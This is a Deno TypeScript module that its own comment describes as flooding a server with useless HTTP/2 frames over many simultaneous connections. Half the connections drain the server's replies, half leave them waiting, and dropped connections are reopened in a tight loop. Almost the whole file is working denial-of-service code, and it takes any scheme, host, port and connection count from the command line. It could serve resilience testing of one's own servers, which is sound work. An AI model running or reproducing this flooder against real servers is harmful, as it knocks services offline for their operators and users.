/**
 * Floods a server with useless HTTP/2 frames, on some connections at once and as fast as it takes them. Every second
 * connection reads the answers, the others let them wait. It reopens a connection that the server ends at once.
 *
 * Usage: `deno run --allow-all http2_process.ts MILLISECONDS FLOOD SCHEME HOST PORT CONNECTIONS`, where FLOOD is an
 * `Http2Flood`.
 *
 * @module
 */

import { sleep } from "../wait.ts";
import { attackFor } from "./attacker.ts";
import { clientPreface, flood, type Http2Flood } from "./http2_frames.ts";
import { discard, writeAll } from "./streams.ts";

/** A refused connection returns at once; without a pause this would be a busy loop. */
const AGAIN_MS = 5;

const [duration, kind, scheme, host = "", port, count] = Deno.args;
const secure = scheme === "https";
/** `answered`: connections on which the server has completed the TLS handshake, or else has sent what was read. */
const counts = { tried: 0, connected: 0, answered: 0, ended: 0, refused: 0, kibibytes: 0 };
let sentOctets = 0;
attackFor(Number(duration), counts);
for (let each = 0; each < Number(count); each++) void attack(each % 2 === 0);

async function attack(reads: boolean): Promise<never> {
  while (true) {
    counts.tried++;
    try {
      using connection = await open();
      counts.connected++;
      if (secure) counts.answered++;
      if (reads) void discard(connection, () => secure || counts.answered++);
      await send(connection);
    } catch {
      counts.refused++;
    }
    await sleep(AGAIN_MS);
  }
}

/** Ends when the server ends the connection. */
async function send(connection: Deno.Conn): Promise<void> {
  try {
    await writeAll(connection, clientPreface());
    const next = flood(kind as Http2Flood, `${host}:${port}`, secure);
    while (true) {
      const octets = next();
      await writeAll(connection, octets);
      sentOctets += octets.length;
      counts.kibibytes = Math.round(sentOctets / 1024);
    }
  } catch {
    counts.ended++;
  }
}

async function open(): Promise<Deno.Conn> {
  const target = { hostname: host, port: Number(port) };
  if (!secure) return await Deno.connect(target);
  const connection = await Deno.connectTls({ ...target, alpnProtocols: ["h2", "http/1.1"] });
  await connection.handshake();
  return connection;
}
